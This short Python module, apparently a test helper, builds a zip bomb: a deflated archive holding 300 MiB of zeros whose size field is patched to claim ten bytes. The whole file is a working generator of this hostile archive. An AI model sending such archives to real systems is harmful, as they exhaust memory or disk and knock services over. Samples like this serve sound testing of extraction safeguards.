"""A zip bomb whose directory says that its member has ten bytes."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path


def build(goal: Path, secret: Path) -> Path:
    """A zip at `goal`."""
    goal = goal.with_suffix(".zip")
    size = 300 << 20
    with zipfile.ZipFile(goal, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("vowels.py", bytes(size))
    honest, lie = struct.pack("<I", size), struct.pack("<I", 10)
    goal.write_bytes(goal.read_bytes().replace(honest, lie))
    return goal
